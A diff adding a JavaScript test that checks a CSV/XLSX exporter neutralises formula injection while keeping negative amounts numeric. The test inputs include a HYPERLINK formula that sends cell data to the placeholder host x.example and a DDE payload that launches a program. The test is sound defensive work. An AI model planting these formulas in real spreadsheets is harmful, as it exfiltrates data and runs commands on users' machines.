@@ -33,4 +33,26 @@ describe("table export", () => {
     expect(rows[1][1]).toMatchObject({ value: 1000, type: Number });
     expect(rows[2][1]).toMatchObject({ value: 1000, fontWeight: "bold" });
   });
+  it("writes a formula-named customer as text in CSV and XLSX, and a negative amount as a number", () => {
+    const table = {
+      head: ["Name", "Balance"],
+      rows: [
+        ['=HYPERLINK("http://x.example/?d="&A1,"open")', "-1,250.00"],
+        ["+cmd|' /C calc'!A0", "-7"],
+        ["@SUM(1+1)", "0"],
+      ],
+      numeric: [false, true],
+    };
+    const csv = buildCsv(table.head, table.rows, table.numeric);
+    expect(csv).toBe(
+      '\uFEFFName,Balance\r\n"\'=HYPERLINK(""http://x.example/?d=""&A1,""open"")","-1,250.00"\r\n\'+cmd|\' /C calc\'!A0,-7\r\n\'@SUM(1+1),0\r\n',
+    );
+    const rows = xlsxRows(table);
+    expect(rows[1][0]).toMatchObject({ value: `'=HYPERLINK("http://x.example/?d="&A1,"open")`, type: String });
+    expect(rows[1][1]).toMatchObject({ value: -1250, type: Number });
+    expect(rows[2][0]).toMatchObject({ value: "'+cmd|' /C calc'!A0", type: String });
+    expect(rows[3][0]).toMatchObject({ value: "'@SUM(1+1)", type: String });
+    // A text column holding "-7" is text, and is neutralised.
+    expect(buildCsv(["Note"], [["-7"]])).toBe("\uFEFFNote\r\n'-7\r\n");
+  });
 });
